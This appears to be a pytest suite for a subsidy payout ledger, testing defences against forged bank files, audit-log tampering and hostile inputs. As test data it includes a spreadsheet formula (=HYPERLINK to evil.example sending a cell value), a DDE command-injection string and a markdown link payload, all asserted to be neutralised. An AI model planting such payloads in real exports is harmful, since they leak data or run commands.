"""The money path against a hostile or careless operator (issue #19). Each test reproduces a
defect found on the previous code and asserts the fix, on SQLite and PostgreSQL where the
ledger is involved."""

from __future__ import annotations

import datetime as dt
import hashlib
import http.server
import json
import os
import socketserver
import subprocess
import sys
import threading
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa
from sqlalchemy import func, select
from typer.testing import CliRunner

from rules_engine import service
from rules_engine.cli import DEFAULT_POLICIES, app
from rules_engine.data.datasets import SAMPLE_MANIFEST, SourceFile, load_dataset
from rules_engine.data.tags import load_dictionary
from rules_engine.errors import Conflict, DataError, Invalid
from rules_engine.ledger import lifecycle
from rules_engine.ledger.models import AuditEntry, OutboxMessage, PaymentFile, Payout, PayoutEvent
from rules_engine.ledger.outbox import WebhookSender, dispatch
from rules_engine.library.loader import load_library
from rules_engine.service import Actor
from tests.test_ledger import bank_answer

ROOT = Path(__file__).resolve().parent.parent
D = load_dictionary()
LIB = load_library(DEFAULT_POLICIES, D)
DS = load_dataset(SAMPLE_MANIFEST, D)
AS_OF = dt.date(2026, 6, 30)
OFFICIAL = Actor("李四", "official")
FINANCE = Actor("财务", "finance")
AUDITOR = Actor("审计", "auditor")
runner = CliRunner()


def approved_ledger(url: str, monkeypatch: pytest.MonkeyPatch, policies: tuple[str, ...] = ("faming-zhuanli",),
                    frame: pd.DataFrame | None = None):  # type: ignore[no-untyped-def]
    """A ledger whose payouts are approved: published on 2026-07-01, approved on 2026-07-09."""
    sf = service.open_ledger(url)
    service.run_batch(sf, OFFICIAL, DS.frame if frame is None else frame, [LIB.get(p) for p in policies], AS_OF, D)
    monkeypatch.setenv("MIANSHEN_CLOCK", "2026-07-01")
    service.publish_candidates(sf, OFFICIAL)
    monkeypatch.setenv("MIANSHEN_CLOCK", "2026-07-09")
    assert service.approve_due(sf, OFFICIAL) > 0
    return sf


def export(sf, tmp_path: Path, name: str) -> Path:  # type: ignore[no-untyped-def]
    issued = service.export_payment_file(sf, FINANCE, "csv")
    path = tmp_path / name
    path.write_bytes(issued.file.content)
    return path


def status_of(sf, ref: str) -> str:  # type: ignore[no-untyped-def]
    return service.list_payouts(sf, OFFICIAL, service.PayoutFilter())[int(ref[2:]) - 1].status


# ------------------------------------------------------------------ 1-4: payment and bank files


def test_replayed_bank_result_after_a_retry_pays_nothing_twice(ledger_url: str, tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    """Was: pay1 → result1 (X failed) → retry X → pay2 → result1 again moved X to failed, X was
    exported a third time and the bank's second success was taken as 'already applied'."""
    sf = approved_ledger(ledger_url, monkeypatch)
    pay1 = export(sf, tmp_path, "pay1.csv")
    result1 = bank_answer(pay1, {0: ("失败", "", "账户冻结")})
    result1.to_csv(tmp_path / "result1.csv", index=False)
    x = result1.loc[0, "兑现编号"]
    r = service.import_bank_results(sf, FINANCE, (tmp_path / "result1.csv").read_bytes())
    assert r.failed == 1 and r.problems == []
    service.retry(sf, FINANCE, x, "更正账户")
    pay2 = export(sf, tmp_path, "pay2.csv")
    assert list(pd.read_csv(pay2, dtype=str)["兑现编号"]) == [x]
    replay = service.import_bank_results(sf, FINANCE, (tmp_path / "result1.csv").read_bytes())
    assert (replay.paid, replay.failed, replay.unchanged) == (0, 0, len(result1))  # the old file changes nothing
    assert status_of(sf, x) == "approved"
    with pytest.raises(Invalid, match="不生成空的支付文件"):  # nothing else to pay (was: an empty file, #36 item 12)
        export(sf, tmp_path, "pay3.csv")
    bank_answer(pay2).to_csv(tmp_path / "result2.csv", index=False)
    assert service.import_bank_results(sf, FINANCE, (tmp_path / "result2.csv").read_bytes()).paid == 1
    assert status_of(sf, x) == "paid"
    with sf() as s:
        paid = s.scalar(select(func.count()).select_from(PayoutEvent).where(PayoutEvent.to_status == "paid"))
    assert paid == len(result1)  # every payout paid exactly once
    assert service.verify_audit(sf, AUDITOR).problems == []


def test_a_bank_file_cannot_pay_what_was_never_exported(ledger_url: str, tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    """Was: a four-column file naming MS0000000007 marked it paid with payment_file NULL."""
    sf = approved_ledger(ledger_url, monkeypatch)
    forged = tmp_path / "f.csv"
    forged.write_text("reference,result,bank_reference,message\nMS0000000007,成功,FORGED-1,\n", encoding="utf-8")
    with pytest.raises(DataError, match="缺少列：支付文件编号、支付文件SHA256"):
        service.import_bank_results(sf, FINANCE, forged.read_bytes())
    r = runner.invoke(app, ["payment", "import", str(forged), "--actor", "x", "--db", ledger_url])
    assert r.exit_code == 1 and "Traceback" not in r.output
    # the right columns, but a payout that is in no payment file, a made-up file, a wrong hash,
    # a changed amount and a changed account: all refused, nothing paid
    pay = export(sf, tmp_path, "pay.csv")
    good = bank_answer(pay)
    rows = pd.concat([good.iloc[[0]].assign(支付文件编号="PF00000099"),
                      good.iloc[[0]].assign(支付文件SHA256="0" * 64),
                      good.iloc[[0]].assign(**{"金额（元）": "99999.99"}),
                      good.iloc[[0]].assign(收款账号="6222000000000000"),
                      good.iloc[[0]].assign(兑现编号="MS0000099999")])
    rows.to_csv(forged, index=False)
    r = service.import_bank_results(sf, FINANCE, forged.read_bytes())
    assert (r.paid, r.failed, len(r.problems)) == (0, 0, 5)
    assert [
        next(k for k in ("没有支付文件", "哈希与", "金额", "收款账号", "中没有兑现记录") if k in p) for p in r.problems] == ["没有支付文件", "哈希与", "金额", "收款账号", "中没有兑现记录"]
    assert service.status_counts(sf, OFFICIAL).get("paid", 0) == 0
    # a bank reference can pay one line only
    dup = good.iloc[:2].copy()
    dup["银行流水号"] = "SAME-1"
    dup.to_csv(forged, index=False)
    r = service.import_bank_results(sf, FINANCE, forged.read_bytes())
    assert r.paid == 1 and "已用于另一笔支付" in r.problems[0]


def _import(url: str, path: Path) -> subprocess.Popen[str]:
    return subprocess.Popen([sys.executable, "-m", "rules_engine", "payment", "import", str(path), "--actor", "财务",
                             "--db", url], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            env={**os.environ, "COLUMNS": "200"})


def test_concurrent_imports_of_one_file_apply_each_line_once(ledger_url: str, tmp_path: Path,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    """Was: two concurrent `payment import` of the same file both applied it (two transitions)."""
    sf = approved_ledger(ledger_url, monkeypatch)
    pay = export(sf, tmp_path, "pay.csv")
    bank_answer(pay).to_csv(tmp_path / "r.csv", index=False)
    runs = [_import(ledger_url, tmp_path / "r.csv") for _ in range(3)]
    outs = [p.communicate(timeout=120) for p in runs]
    for (_out, err), p in zip(outs, runs):
        assert "Traceback" not in err and "IntegrityError" not in err, err
        assert p.returncode in (0, 1), err
        if p.returncode == 1:  # the loser of a race: a clear message and nothing done
            assert "他人同时处理" in err, err
    assert sum(p.returncode == 0 for p in runs) >= 1
    n = len(pd.read_csv(pay))
    with sf() as s:
        transitions = s.execute(select(PayoutEvent.payout_id, func.count()).where(PayoutEvent.to_status == "paid")
                                .group_by(PayoutEvent.payout_id)).all()
    assert len(transitions) == n and all(c == 1 for _, c in transitions)
    assert service.verify_audit(sf, AUDITOR).problems == []


def test_concurrent_approvals_and_transitions_are_compare_and_set(ledger_url: str,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """Was: two operators approving at once got an IntegrityError traceback (or double events)."""
    sf = service.open_ledger(ledger_url)
    service.run_batch(sf, OFFICIAL, DS.frame, [LIB.get("faming-zhuanli")], AS_OF, D)
    monkeypatch.setenv("MIANSHEN_CLOCK", "2026-07-01")
    service.publish_candidates(sf, OFFICIAL)
    monkeypatch.setenv("MIANSHEN_CLOCK", "2026-07-09")
    results: list[object] = []
    barrier = threading.Barrier(2)

    def approve() -> None:
        barrier.wait()
        try:
            results.append(service.approve_due(sf, Actor(threading.current_thread().name, "official")))
        except Conflict as exc:
            results.append(exc)

    threads = [threading.Thread(target=approve, name=f"审批员{i}") for i in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    with sf() as s:
        n = s.scalar(select(func.count()).select_from(Payout))
        events = s.scalar(select(func.count()).select_from(PayoutEvent).where(PayoutEvent.to_status == "approved"))
        notices = s.scalar(select(func.count()).select_from(OutboxMessage))
    assert sorted(r if isinstance(r, int) else -1 for r in results) in ([0, n], [-1, n])
    assert events == notices == n
    # a stale object loses: the row moved since it was read
    with sf.begin() as s:
        stale = s.scalars(select(Payout).order_by(Payout.id)).first()
        s.expunge(stale)
    with sf.begin() as s:
        s.execute(sa.update(Payout).where(Payout.id == stale.id).values(status="failed"))
    with pytest.raises(lifecycle.ConcurrentChange, match="已被他人同时处理"), sf.begin() as s:
        s.add(stale)
        lifecycle.mark_failed(s, stale, "财务", "重复点击")


def test_a_payment_file_on_disk_is_always_known_to_the_ledger(ledger_url: str, tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    """Was: the file was written before the commit: a kill in between left a complete file the
    ledger did not know, and the next export repeated every payout."""
    sf = approved_ledger(ledger_url, monkeypatch)
    db = ["--db", ledger_url]
    out = tmp_path / "pay.csv"
    # 1. the transaction fails: nothing is written
    from rules_engine.ledger import payments

    real_append = payments.audit.append

    def dies(*a, **k):  # type: ignore[no-untyped-def]
        raise OSError("simulated crash before the commit")

    monkeypatch.setattr(payments.audit, "append", dies)
    with pytest.raises(OSError):
        service.export_payment_file(sf, FINANCE, "csv")
    monkeypatch.setattr(payments.audit, "append", real_append)
    assert not out.exists()
    with sf() as s:
        assert s.scalar(select(func.count()).select_from(PaymentFile)) == 0
        assert s.scalar(select(func.count()).select_from(Payout).where(Payout.payment_file.is_not(None))) == 0
    # 2. the process dies after the commit, before the file is renamed into place
    import rules_engine.data.exporting as exporting

    monkeypatch.setattr(exporting.os, "replace", lambda *a: (_ for _ in ()).throw(OSError("killed")))
    r = runner.invoke(app, ["payment", "export", str(out), "--actor", "财务", *db])
    monkeypatch.undo()
    assert r.exit_code != 0 and not out.exists() and not list(tmp_path.glob(".pay.csv.*"))
    with sf() as s:
        f = s.scalars(select(PaymentFile)).one()
    # the next export repeats nothing; the lost file is downloaded again, byte for byte
    monkeypatch.setenv("MIANSHEN_CLOCK", "2026-07-09")
    with pytest.raises(Invalid, match="不生成空的支付文件"):  # nothing repeated (no empty file either)
        service.export_payment_file(sf, FINANCE, "csv")
    r = runner.invoke(app, ["payment", "download", f.reference, str(out), "--actor", "财务", *db])
    assert r.exit_code == 0, r.output
    assert hashlib.sha256(out.read_bytes()).hexdigest() == f.sha256 and len(pd.read_csv(out)) == f.count


def test_approval_follows_the_server_clock_not_the_operator(ledger_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Was: approval took a --today that defaulted to notice end + 1 and accepted a future date:
    all 3,542 payouts were approved inside their notice period."""
    monkeypatch.delenv("MIANSHEN_CLOCK", raising=False)
    sf = service.open_ledger(ledger_url)
    service.run_batch(sf, OFFICIAL, DS.frame, [LIB.get("faming-zhuanli")], AS_OF, D)
    n, first, last = service.publish_candidates(sf, OFFICIAL)
    assert first == dt.date.today() and n > 0
    assert service.approve_due(sf, OFFICIAL) == 0  # on notice today, whatever anyone types
    with pytest.raises(Invalid, match="早于今天"):
        service.publish_candidates(sf, OFFICIAL, start=dt.date.today() - dt.timedelta(days=10))
    with pytest.raises(TypeError):
        service.approve_due(sf, OFFICIAL, today=last + dt.timedelta(days=1))  # type: ignore[call-arg]
    # the explicit test/demo setting is honoured, and every use of it is in the audit log
    monkeypatch.setenv("MIANSHEN_CLOCK", (last + dt.timedelta(days=1)).isoformat())
    assert service.approve_due(sf, OFFICIAL) == n
    with sf() as s:
        entry = s.scalars(select(AuditEntry).where(AuditEntry.action == "approve_many")).one()
    assert json.loads(entry.details)["clock_override"] == (last + dt.timedelta(days=1)).isoformat()


# ------------------------------------------------------------------ 6-7: exports and display

EVIL = '=HYPERLINK("http://evil.example/?a="&D2,"x")'


def test_exported_text_never_becomes_a_formula(ledger_url: str, tmp_path: Path,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    """Was: an enterprise name =HYPERLINK(...) became a live formula beside the bank account."""
    frame = DS.frame.copy()
    frame["name"] = [EVIL if i % 2 else "+cmd|' /C calc'!A0" for i in range(len(frame))]
    sf = service.open_ledger(ledger_url)
    service.run_batch(sf, OFFICIAL, frame, [LIB.get("faming-zhuanli")], AS_OF, D)
    monkeypatch.setenv("MIANSHEN_CLOCK", "2026-07-01")
    service.publish_candidates(sf, OFFICIAL)
    for fmt in ("xlsx", "csv"):
        data, n = service.export_notice(sf, OFFICIAL, fmt)
        (tmp_path / f"notice.{fmt}").write_bytes(data)
    monkeypatch.setenv("MIANSHEN_CLOCK", "2026-07-09")
    service.approve_due(sf, OFFICIAL)
    (tmp_path / "pay.xlsx").write_bytes(service.export_payment_file(sf, FINANCE, "xlsx").file.content)
    for name in ("notice.xlsx", "pay.xlsx"):
        wb = openpyxl.load_workbook(tmp_path / name)
        cells = [c for ws in wb for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], name  # no formula anywhere
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert "'" + EVIL in texts and not [t for t in texts if t.startswith(("=", "+", "-", "@"))], name
        money = [c for c in wb["明细"][2] if c.number_format == "#,##0.00"]
        assert money and all(c.data_type == "n" for c in money), name  # amounts are numbers: SUM works
    text = (tmp_path / "notice.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and ",+cmd" not in text
    # the match results CLI export and the calculator's report go through the same cells
    from rules_engine.cli import write_results

    res = pd.DataFrame({"credit_code": ["X"], "name": [EVIL], "policy_id": ["p"], "status": ["eligible"],
                        "amount_fen": [100], "missing": ["@SUM(1+1)"]})
    write_results(res, tmp_path / "r.csv")
    assert "'=HYPERLINK" in (tmp_path / "r.csv").read_text() and ",@SUM" not in (tmp_path / "r.csv").read_text()


def test_department_data_is_shown_as_text_not_markdown() -> None:
    """Was: a name ![t](http://127.0.0.1:8765/p.png) [点击领取补贴](http://…) in the calculator
    heading fetched the image and showed a live link."""
    import markdown_it

    from ui.common import md

    name = "![t](http://127.0.0.1:8765/p.png) [点击领取补贴](http://evil.example/) <img src=x> **粗**"
    html = markdown_it.MarkdownIt("commonmark").render(md(name))
    assert "<img" not in html and "<a " not in html and "<strong>" not in html
    assert "点击领取补贴" in html and "127.0.0.1:8765" in html  # shown, as text


# ------------------------------------------------------------------ 8-9: audit anchoring


def _tamper(url: str, *stmts: str) -> None:
    engine = sa.create_engine(url)
    with engine.begin() as conn:
        for stmt in stmts:
            conn.execute(sa.text(stmt))
    engine.dispose()


def _problems(sf) -> list[str]:  # type: ignore[no-untyped-def]
    return service.verify_audit(sf, AUDITOR).problems


@pytest.mark.parametrize("attack", ["cut_tail", "delete_all", "truncate_and_restart", "recompute_chain",
                                    "edit_amount", "edit_status", "insert_payout", "forge_checkpoint"])
def test_audit_verify_catches_what_a_database_administrator_can_do(attack: str, ledger_url: str, tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch,
                                                                   audit_anchor: Path) -> None:
    """Was: cutting the tail, deleting everything, truncating and writing one fresh entry, or
    recomputing a forged chain all verified with 0 problems, and so did an amount changed in
    payouts."""
    sf = approved_ledger(ledger_url, monkeypatch)
    pay = export(sf, Path(str(audit_anchor)), "pay.csv")
    assert _problems(sf) == []
    from rules_engine.ledger import audit

    with sf() as s:
        head, _ = audit.head(s)
    if attack == "cut_tail":
        _tamper(ledger_url, f"DELETE FROM audit_log WHERE seq > {head - 2}")
    elif attack == "delete_all":
        _tamper(ledger_url, "DELETE FROM audit_log")
    elif attack in ("truncate_and_restart", "recompute_chain"):
        with sf.begin() as s:
            entries = list(s.scalars(select(AuditEntry).order_by(AuditEntry.seq)))
            rows = [(e.at, e.actor, e.action, e.subject, e.details) for e in entries]
            s.execute(sa.delete(AuditEntry))
        if attack == "recompute_chain":  # every entry re-hashed, one of them altered: a valid chain
            rows[-1] = (rows[-1][0], "某人", *rows[-1][2:])
        else:
            rows = rows[:1]
        prev = audit.GENESIS
        with sf.begin() as s:
            for seq, (at, actor, action, subject, details) in enumerate(rows, start=1):
                h = audit.entry_hash(seq, at, actor, action, subject, details, prev)
                s.add(AuditEntry(seq=seq, at=at, actor=actor, action=action, subject=subject, details=details,
                                 prev_hash=prev, hash=h))
                prev = h
        with sf() as s:
            assert audit.verify(s)[1] == []  # the chain alone cannot see it
    elif attack == "edit_amount":
        _tamper(ledger_url, "UPDATE payouts SET amount_fen = amount_fen * 10 WHERE id = 2")
    elif attack == "edit_status":
        _tamper(ledger_url, "UPDATE payouts SET status = 'paid', bank_reference = 'X' WHERE id = 3")
    elif attack == "insert_payout":
        with sf.begin() as s:
            p = s.get(Payout, 1)
            s.add(Payout(**{c.key: getattr(p, c.key) for c in Payout.__table__.columns if c.key != "id"}
                         | {"period": "forged", "batch_id": None, "source": "event"}))
    elif attack == "forge_checkpoint":
        path = audit_anchor / "checkpoints.jsonl"
        lines = path.read_text().splitlines()
        forged = json.loads(lines[-1]) | {"seq": 1}
        path.write_text("\n".join(lines[:-1] + [json.dumps(forged)]) + "\n")
    problems = _problems(sf)
    assert problems, attack
    expected = {"cut_tail": "日志尾部被截断", "delete_all": "日志尾部被截断", "truncate_and_restart": "签名锚点",
                "recompute_chain": "日志被改写或整条链被重算", "edit_amount": "摘要不符", "edit_status": "状态为「paid」",
                "insert_payout": "没有生成记录", "forge_checkpoint": "签名无效"}[attack]
    assert any(expected in p for p in problems), problems
    # the payment file carries a signed checkpoint too: the finance system holds a copy
    assert pay.exists()


def test_payment_files_carry_a_signed_checkpoint(ledger_url: str, tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    from rules_engine.ledger import anchor

    sf = approved_ledger(ledger_url, monkeypatch)
    (tmp_path / "p.xlsx").write_bytes(service.export_payment_file(sf, FINANCE, "xlsx").file.content)
    control = pd.read_excel(tmp_path / "p.xlsx", sheet_name="控制合计", dtype=str).iloc[0]
    c = anchor.Checkpoint(int(control["审计锚点序号"]), control["审计锚点哈希"], control["锚点时间"],
                          control["锚点签名（Ed25519）"])
    assert anchor.valid(c)
    assert not anchor.valid(anchor.Checkpoint(c.seq + 1, c.hash, c.at, c.signature))


def test_data_export_refuses_to_write_into_the_ledger(tmp_path: Path) -> None:
    """Was: `data-export --to sqlite:///ledger.db --table audit_log` silently replaced the log."""
    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    sf = service.open_ledger(url)
    service.run_batch(sf, OFFICIAL, DS.frame, [LIB.get("faming-zhuanli")], AS_OF, D)
    with sf() as s:
        before = s.scalar(select(func.count()).select_from(AuditEntry))
    for table in ("audit_log", "PAYOUTS", "payment_files", "alembic_version"):
        r = runner.invoke(app, ["data-export", "--to", url, "--table", table])
        assert r.exit_code == 1 and "兑现台账自己的表" in r.output, r.output
    with sf() as s:
        assert s.scalar(select(func.count()).select_from(AuditEntry)) == before
    assert _problems(sf) == []


# ------------------------------------------------------------------ 13, 15: hostile numbers and silent coercions


def test_worker_poison_pills_become_dead_letters(tmp_path: Path) -> None:
    """Was: revenue 1e309 (also Infinity, "99999999999999999999") crashed the worker with no dead
    letter, and every restart crashed on it again."""
    from rules_engine.ledger.models import DeadLetter
    from rules_engine.ledger.worker import FileSource, Worker

    code = "91340102000395962B"
    events = [{"credit_code": code, "tag": "revenue[2025]", "value": v, "as_of": "2026-06-01", "source": "tax"}
              for v in ("1e309", "Infinity", "99999999999999999999", "-1e400", "NaN")]
    raw_float = '{"credit_code": "CODE", "tag": "revenue[2025]", "value": 1e309, "as_of": "2026-06-01", "source": "tax"}'
    lines = [json.dumps(e) for e in events] + [raw_float.replace("CODE", code), "[" * 100000]
    path = tmp_path / "events.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    url = f"sqlite:///{tmp_path / 'l.db'}"
    sf = service.open_ledger(url)
    stats = Worker(sf, D, LIB.policies, DS.frame, AS_OF).run(FileSource(path))
    assert stats.dead == len(lines)
    with sf() as s:
        reasons = [d.reason for d in s.scalars(select(DeadLetter).order_by(DeadLetter.id))]
    assert len(reasons) == len(lines) and all(reasons)
    assert Worker(sf, D, LIB.policies, DS.frame, AS_OF).run(FileSource(path)).dead == 0  # nothing left to trip on


def test_hostile_and_sloppy_cells_are_cell_rejects_with_the_raw_text(tmp_path: Path) -> None:
    """Was: 1e309 aborted the whole load (OverflowError); 2025-01-01garbage → 2025-01-01,
    2025-W01-1 → 2024-12-30, 1,2,3 → 123, 1_000 → 1000, 5% → 0.05 yuan; full-width region digits kept."""
    import csv
    import io

    from rules_engine.data import creditcode

    codes = [creditcode.make("340104", 7000 + i) for i in range(9)]
    rows = [("1e309", "2025-01-01", "３４０１０４"), ("1", "2025-01-01garbage", "340104"), ("", "2025-W01-1", "340104"),
            ("1,2,3", "", "340104"), ("1_000", "", "340104"), ("5%", "", "340104"),
            ("12,345.6", "2025/3/9", "340104"), ("100000.0000000000000000000000001", "", "340104"),
            ("3万", "2025-03-09 00:00:00", "340104")]
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["统一社会信用代码", "营业收入[2025]", "高新技术企业认定日期", "注册地行政区划"])
    w.writerows([c, *r] for c, r in zip(codes, rows))
    text = buf.getvalue()
    (tmp_path / "t.csv").write_text(text, encoding="utf-8")
    ds = load_dataset([SourceFile("t.csv", "tax", dt.date(2026, 5, 31), path=tmp_path / "t.csv")], D)
    assert len(ds.frame) == 9  # no row lost
    f = ds.frame.set_index("credit_code")
    rejected = {(r.credit_code, r.raw) for r in ds.rejects}
    for code, raw in [(codes[0], "1e309"), (codes[1], "2025-01-01garbage"), (codes[2], "2025-W01-1"),
                      (codes[3], "1,2,3"), (codes[4], "1_000"), (codes[5], "5%")]:
        assert (code, raw) in rejected, (raw, ds.rejects)
    # more than 28 significant digits: never rounded silently; within 10^-6 yuan of a fen it is
    # read as that fen and counted (issue #16's rule for float pipelines)
    assert f.loc[codes[7], "revenue@2025"] == 10000000
    assert [(r.credit_code, r.raw) for r in ds.normalised] == [(codes[7], "100000.0000000000000000000000001")]
    assert f.loc[codes[6], "revenue@2025"] == 1234560  # 12,345.60 yuan, correctly grouped
    assert f.loc[codes[8], "revenue@2025"] == 3000000
    assert str(f.loc[codes[6], "hitech_cert_date"])[:10] == "2025-03-09"
    assert str(f.loc[codes[0], "region"]) == "340104"  # full-width digits normalised
    assert f.loc[codes[0], "hitech_cert_date"] is not None  # the bad revenue cell cost only itself


def test_a_control_character_in_department_data_is_a_cell_reject_and_the_batch_runs(ledger_url: str,
                                                                                   tmp_path: Path) -> None:
    """Was: a NUL in an enterprise's name (a broken export) loaded, then the batch died on
    PostgreSQL with a psycopg DataError traceback (text cannot hold NUL). The cell is rejected
    with its reason, the rest of the row loads, the batch pays the enterprise."""
    from rules_engine.data import creditcode

    a, b = creditcode.make("340104", 8101), creditcode.make("340104", 8102)
    (tmp_path / "m.csv").write_text("统一社会信用代码,企业名称,注册地行政区划,有效发明专利数\n"
                                    f"{a},坏\x00名字,340104,3\n{b},响铃\x07公司,340104,2\n", encoding="utf-8")
    ds = load_dataset([SourceFile("m.csv", "market", dt.date(2026, 5, 31), path=tmp_path / "m.csv")], D)
    assert len(ds.frame) == 2
    reasons = {r.credit_code: r.reason for r in ds.rejects}
    assert set(reasons) == {a, b} and all("控制字符" in why for why in reasons.values()), reasons
    f = ds.frame.set_index("credit_code")
    assert f.loc[a].get("name") is None and f.loc[a, "invention_patents"] == 3  # only the bad cell is lost
    sf = service.open_ledger(ledger_url)
    r = service.run_batch(sf, OFFICIAL, ds.frame, [LIB.get("faming-zhuanli")], AS_OF, D)
    assert r.created == 2


# ------------------------------------------------------------------ 16: the webhook sender


class _Hostile(socketserver.BaseRequestHandler):
    answer = b""

    def handle(self) -> None:
        self.request.recv(65536)
        self.request.sendall(type(self).answer)


@pytest.mark.parametrize("answer", [b"garbage\r\n\r\n", b"HTTP/1.1 302 Found\r\nLocation: /elsewhere\r\n"
                                                         b"Content-Length: 0\r\n\r\n", b""])
def test_webhook_counts_only_a_2xx_to_the_post_itself(answer: bytes, tmp_path: Path) -> None:
    """Was: `garbage` raised an uncaught BadStatusLine that blocked the outbox; a 302 turned the
    POST into a GET and every message was marked sent with nothing delivered."""
    url = f"sqlite:///{tmp_path / 'l.db'}"
    sf = service.open_ledger(url)
    with sf.begin() as s:
        s.add(OutboxMessage(kind="approved", dedupe_key="k", payload={"dedupe_key": "k"}, status="pending",
                            attempts=0, next_attempt_at=dt.datetime(2026, 7, 1)))
    _Hostile.answer = answer
    server = socketserver.TCPServer(("127.0.0.1", 0), _Hostile)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        r = dispatch(sf, WebhookSender(f"http://127.0.0.1:{server.server_address[1]}/n", timeout=3),
                     now=dt.datetime(2026, 7, 1, 9))
    finally:
        server.shutdown()
        server.server_close()
    assert (r.sent, r.retried) == (0, 1)
    with sf() as s:
        m = s.scalars(select(OutboxMessage)).one()
    assert m.status == "pending" and m.last_error


def test_webhook_body_is_signed(tmp_path: Path) -> None:
    import hmac

    got: list[tuple[str, bytes]] = []

    class Receiver(http.server.BaseHTTPRequestHandler):
        def do_POST(self) -> None:  # noqa: N802
            body = self.rfile.read(int(self.headers["Content-Length"]))
            got.append((self.headers["X-Mianshen-Signature"], body))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *a: object) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Receiver)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        WebhookSender(f"http://127.0.0.1:{server.server_address[1]}/n", secret="s3cret").send({"dedupe_key": "k"})
    finally:
        server.shutdown()
    sig, body = got[0]
    assert sig == "sha256=" + hmac.new(b"s3cret", body, hashlib.sha256).hexdigest()


def test_the_audit_log_reads_in_chinese_with_each_state_before_and_after(ledger_url: str, tmp_path: Path,
                                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    """Was: the auditor's log showed the stored JSON ({"from":"candidate","ids":[1,2,…]}) and
    subjects such as "2155 payouts" and "batch 1"; no state before and after."""
    import re

    from rules_engine.service import auth, budget, keys
    from rules_engine.service.ledger import audit_entries

    sf = approved_ledger(ledger_url, monkeypatch)
    pay1 = export(sf, tmp_path, "pay1.csv")
    result1 = bank_answer(pay1, {0: ("失败", "", "账户冻结")})
    result1.to_csv(tmp_path / "result1.csv", index=False)
    service.import_bank_results(sf, FINANCE, (tmp_path / "result1.csv").read_bytes())
    service.retry(sf, FINANCE, result1.loc[0, "兑现编号"], "更正账户")
    service.revoke(sf, OFFICIAL, result1.loc[1, "兑现编号"], "骗取补贴，依法追回")
    budget.set_indicator(sf, Actor("预算系统", "budget"), "faming-zhuanli", 1_234_567_89)
    keys.create_key(sf, OFFICIAL, "财政涉企系统", "finance")
    monkeypatch.setenv("MIANSHEN_DEMO", "1")
    from rules_engine.service.accounts import load_accounts

    auth.sign_in(sf, load_accounts(), "shenji", "shenji-demo", "10.0.0.1")

    log = audit_entries(sf, AUDITOR)
    assert list(log.columns) == ["序号", "时间", "操作人", "动作", "对象", "变更前", "变更后", "详情", "核验"]
    by_action = {a: g.iloc[0] for a, g in log.groupby("动作")}
    assert (by_action["批量列入公示"]["变更前"], by_action["批量列入公示"]["变更后"]) == ("待公示", "公示中")
    assert by_action["批量列入公示"]["对象"].startswith("兑现记录 ") and "公示期：2026-07-01 至" in by_action["批量列入公示"]["详情"]
    assert (by_action["支付成功"]["变更前"], by_action["支付成功"]["变更后"]) == ("已审批", "已支付")
    assert (by_action["支付失败"]["变更前"], by_action["支付失败"]["变更后"]) == ("已审批", "支付失败")
    assert (by_action["追回"]["变更前"], by_action["追回"]["变更后"]) == ("已支付", "已追回")
    assert "追回金额：" in by_action["追回"]["详情"] and "理由：骗取补贴，依法追回" in by_action["追回"]["详情"]
    assert by_action["下达预算指标"]["变更后"] == "1,234,567.89 元"
    assert by_action["运行批次"]["对象"] == "批次 1" and "新增待公示金额：" in by_action["运行批次"]["详情"]
    assert "模拟时钟日期：2026-07-09" in by_action["批量审批通过"]["详情"]  # the clock the operator set, shown
    assert "角色：审计人员" in by_action["登录"]["详情"]
    # nothing English is left but codes: policy ids, tag keys, references (bank's too), hashes, file names
    codes = {p.id for p in LIB.policies} | set(D.tags)
    allowed = re.compile(r"\bB\w*\d{6}\b|\b(?:MS|PF|INV|APP|SV)\d+\b|\b[0-9a-f]{8,}…?|\b[\w\-]+\.(?:csv|xlsx|yaml)\b|[0-9A-Z]{18}")
    english = {w for col in ("动作", "对象", "变更前", "变更后", "详情") for text in log[col]
               for w in re.findall(r"[A-Za-z][A-Za-z_\-]+", allowed.sub(" ", str(text))) if w not in codes}
    assert not english, english


def test_an_audit_entry_of_a_confirmed_invitation_reads_in_chinese() -> None:
    """Was: 「政策：kuogang-buzhu@1；触发数据项：confirm」 (now 触发原因) in the auditor's log."""
    import json

    from rules_engine.service.auditview import describe

    _, before, after, details = describe("event_candidate", "YQ0000000303", json.dumps(
        {"policy": "kuogang-buzhu@1", "credit_code": "91340124MA7112976A", "period": "2026", "amount_fen": 450000,
         "account": "75c477f21ce64079aa", "trigger": "confirm"}))
    assert "政策：kuogang-buzhu（第 1 版）" in details and "触发原因：企业确认享受（即申即享）" in details
    assert "金额：4,500.00 元" in details and "confirm" not in details and (before, after) == ("", "")
